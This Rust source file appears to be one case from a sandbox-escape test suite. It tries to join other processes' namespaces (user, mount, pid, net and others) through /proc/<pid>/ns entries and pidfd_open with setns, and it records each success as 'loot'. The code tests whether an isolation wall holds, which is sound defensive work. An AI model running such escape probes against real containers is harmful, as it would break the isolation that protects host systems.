//! Enters namespaces that it can name: those of the first process it sees, of a process of the host, its own.

use std::fs::File;
use std::os::fd::AsRawFd;

use model::Wall;

use super::support::{bait, in_child, judge_by_loot, set_bait};
use crate::inside::call;
use crate::{Attack, Control};

pub const ATTACK: Attack = Attack {
    id: "kernel/join_namespaces",
    wall: Wall::SystemCalls,
    about: "enter other namespaces through /proc and through a descriptor of a process",
    flags: &[],
    prepare: |field| set_bait(field).map(drop),
    inside: |inside| {
        let bait = bait(inside)?;
        for process in ["1".to_owned(), "self".to_owned(), bait.to_string()] {
            for kind in ["user", "mnt", "pid", "pid_for_children", "net", "ipc", "uts", "cgroup", "time"] {
                let path = format!("/proc/{process}/ns/{kind}");
                let enter = || match File::open(&path) {
                    Ok(file) => call(libc::SYS_setns, [file.as_raw_fd() as u64, 0, 0, 0, 0, 0]).is_err().into(),
                    Err(_) => 1,
                };
                if in_child(enter)? == Some(0) {
                    inside.loot(format!("entered {path}\n"))?;
                }
            }
        }
        for process in [1, bait] {
            let enter = || {
                let all = 0x7e02_0080 & !0x1000_0000;
                let entered = call(libc::SYS_pidfd_open, [process as u64, 0, 0, 0, 0, 0])
                    .and_then(|descriptor| call(libc::SYS_setns, [descriptor, all, 0, 0, 0, 0]));
                entered.is_err().into()
            };
            if in_child(enter)? == Some(0) {
                inside.loot(format!("entered all of {process}\n"))?;
            }
        }
        Ok(())
    },
    judge: Some(judge_by_loot),
    control: Control::BareAsRoot,
};
